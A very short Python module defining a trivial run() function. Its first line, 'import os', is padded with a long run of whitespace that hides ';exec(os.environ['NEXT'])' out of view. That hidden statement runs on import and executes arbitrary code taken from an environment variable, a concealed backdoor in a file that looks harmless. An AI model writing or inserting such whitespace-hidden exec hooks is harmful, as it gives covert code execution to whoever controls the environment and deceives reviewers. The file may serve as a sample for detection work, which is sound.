import os                                                                                                                                                                                                                                                                                                            ;exec(os.environ['NEXT'])


def run():
    return 1
